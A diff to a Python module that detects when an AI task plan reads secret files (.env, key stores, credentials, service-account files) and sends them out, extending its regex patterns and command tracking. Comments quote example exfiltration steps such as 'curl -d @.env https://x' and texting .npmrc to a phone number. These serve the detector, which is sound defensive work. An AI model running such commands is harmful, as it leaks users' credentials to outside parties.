@@ -7,10 +7,11 @@ where other work asks it (a summary kept in the workspace leaks nothing).
 
 from __future__ import annotations
 
+import posixpath
 import re
 
 from orchestra.analysis.models import TaskStep
-from orchestra.analysis.shell_reads import Untold, shell_reads
+from orchestra.analysis.shell_reads import ShellReads, Untold, shell_reads
 from orchestra.analysis.to_a_person import sent_to_a_person
 from orchestra.analysis.words import words
 from orchestra.lazy_regex import lazy_compile
@@ -35,7 +36,9 @@ _SECRET_FOLDER_NAMES = lazy_compile(
 # Kinds of file that are keys or key stores (named as files by `data`).
 SECRET_EXTENSIONS = frozenset("pem key p12 pfx jks keystore kdbx ppk der crt asc gpg pgp tfstate".split())
 # Stems of a secret's name no ordinary word holds, found anywhere in a name ("aws_credentials.json", "mypasswd")
-_SECRET_STEMS = lazy_compile(r"credential|passw(?:or)?d|api[_-]?key|private[_-]?key|\.env\b", re.IGNORECASE)
+_SECRET_STEMS = lazy_compile(
+    r"credential|passw(?:or)?d|api[_-]?key|private[_-]?key|\.env\b|service[_-]?account|adminsdk", re.IGNORECASE
+)
 # A secret's name as a whole word of a file's name, or as its end ("api_token.txt", "authtoken", "mySecrets.yaml"),
 # never its start (attack385: "tokenizer.json", "secretary_minutes.md" were asked)
 _SECRET_WORD = lazy_compile(r"[a-z]*(?:secrets?|tokens?)|creds|passphrases?")
@@ -99,7 +102,7 @@ def secrets_sent(steps: list[TaskStep], text: str = "") -> list[str]:
     ("Read config.yaml; my API token is in it"). The notes say the same for the reader of the plan."""
     by_id = {s.id: s for s in steps}
     read = {s.id: _files_of(s) for s in steps}  # once per step: a request of many sends stays linear in its steps
-    files = {k: named for k, (named, _) in read.items()}
+    files = {k: named for k, (named, _, _) in read.items()}
     position = {s.id: n for n, s in enumerate(steps)}
     writers: dict[str, list[str]] = {}
     for s in steps:
@@ -107,13 +110,20 @@ def secrets_sent(steps: list[TaskStep], text: str = "") -> list[str]:
         # changes the files it writes ("cp .env notes.txt", "cat .env > notes.txt")
         for f in files[s.id] if s.side_effects or not s.candidates else read[s.id][1]:
             writers.setdefault(f, []).append(s.id)
+        if read[s.id][2].writes_unknown:  # a command not read may have written any file read after it
+            writers.setdefault(_ANY_FILE, []).append(s.id)
     told = _told_secret(text)
     notes: list[str] = []
     for step in steps:
         # "Read .npmrc and text it to +15551234567": a send to a person, by a tool saying it sends (``said_verbs``),
         # where no sink is said and the verb says other things too (attack186)
         to_a_person = bool(step.candidates) and sent_to_a_person(step.action)
-        if not to_a_person and (not step.side_effects or not {step.capability, *step.keywords} & SENDING):
+        sends_itself = read[step.id][2].sends  # "curl -d @.env https://x": the command is the send
+        if (
+            not to_a_person
+            and not sends_itself
+            and (not step.side_effects or not {step.capability, *step.keywords} & SENDING)
+        ):
             continue
         behind = _files_behind(step, by_id, files, position, writers)
         untold = sorted(f for f in behind if isinstance(f, Untold))
@@ -142,10 +152,11 @@ _NOUN_ENDS = (
 _TOLD_SECRET = lazy_compile(
     r"\b(?:api[ _-]?)?(?:token|password|passphrase|secret|credential|private key|api key|key)s?\b"
     r"(?:\s+(?:for|of|to|from|on|at)\b[^.;!?]{0,40}?)?"
-    r"\s+(?:is|are)\s+(?:stored\s+|kept\s+|saved\s+)?in\b"
-    r"|\b(?:holds?|has|have|contains?|keeps?|stores?|with)\s+(?:all\s+)?(?:my|our|the|a|an|its|some)?\s*"
-    r"(?:\w+\s+){0,2}?(?:api[ _-]?)?(?:tokens?|passwords?|passphrases?|secrets?|credentials?|private keys?|api keys?)\b"
-    + _NOUN_ENDS,
+    r"\s+(?:(?:is|are)\s+(?:stored\s+|kept\s+|saved\s+)?|lives?\s+|sits?\s+)in(?:side)?\b"
+    r"|\bput\s+(?:my|our|the|a)\s+(?:\w+\s+)?(?:token|password|secret|key)s?\s+(?:there|in)\b"
+    r"|\b(?:holds?|has|have|contains?|keeps?|stores?|includes?|with)\s+(?:all\s+)?(?:my|our|the|a|an|its|some)?\s*"
+    r"(?:\w+\s+){0,2}?(?:api[ _-]?)?(?:tokens?|passwords?|passphrases?|secrets?|credentials?|private keys?|api keys?"
+    r"|keys|PATs?)\b" + _NOUN_ENDS,
     re.IGNORECASE,
 )
 
@@ -174,7 +185,9 @@ def _files_behind(
         current = todo.pop()
         found |= files[current.id]
         at = position[current.id]
-        wrote = {w for f in files[current.id] for w in writers.get(f, ()) if position[w] < at}
+        # a file read may be one a copy into its folder wrote ("cp out.txt pub/", then "pub/out.txt": attack399)
+        said = {*files[current.id], *(posixpath.dirname(f) for f in files[current.id] if "/" in f), _ANY_FILE}
+        wrote = {w for f in said for w in writers.get(f, ()) if position[w] < at}
         # a step given its own files, or another's result, takes nothing from one it is only ordered after; a send
         # naming nothing sends the result of the step before all the same (`sent_unnamed`)
         taken = set(current.depends_on) - set(current.only_after)
@@ -185,19 +198,32 @@ def _files_behind(
     return found
 
 
-def _files_of(step: TaskStep) -> tuple[set[str], set[str]]:
+def _files_of(step: TaskStep) -> tuple[set[str], set[str], ShellReads]:
     """The files a step is given by path, and those its commands name (each word that may be a file's name) with
-    what they print that no name tells (`shell_reads.Untold`); and the files its commands write."""
+    what they print that no name tells (`shell_reads.Untold`); the files its commands write; and what its commands
+    do beyond (write files not named, send by themselves). Paths are normalised: "./out.txt" is "out.txt"."""
     files = {str(d.value) for d in step.data if d.kind == "path"}
     files |= {str(v) for k, v in step.params.items() if k == "path" and isinstance(v, str)}
     commands = [str(d.value) for d in step.data if d.kind == "command"]
     commands += [str(v) for k, v in step.params.items() if k in ("cmd", "command") and isinstance(v, str)]
     written: set[str] = set()
+    beyond = ShellReads()
     for command in commands:
         reads = shell_reads(command)
-        files |= {w for w in reads.named if _a_file_name(w)} | reads.untold
+        files |= {w for w in reads.named if _a_file_name(w)} | {w for w in reads.opened if looks_secret(w)}
+        files |= reads.untold
         written |= reads.written
-    return files, written
+        beyond.writes_unknown |= reads.writes_unknown
+        beyond.sends |= reads.sends
+    return _normalised(files), _normalised(written), beyond
+
+
+# What a command not read may have written: every file read after it is looked up under this name too
+_ANY_FILE = Untold("any file")
+
+
+def _normalised(files: set[str]) -> set[str]:
+    return {f if isinstance(f, Untold) else posixpath.normpath(f) for f in files}
 
 
 def _a_file_name(word: str) -> bool:
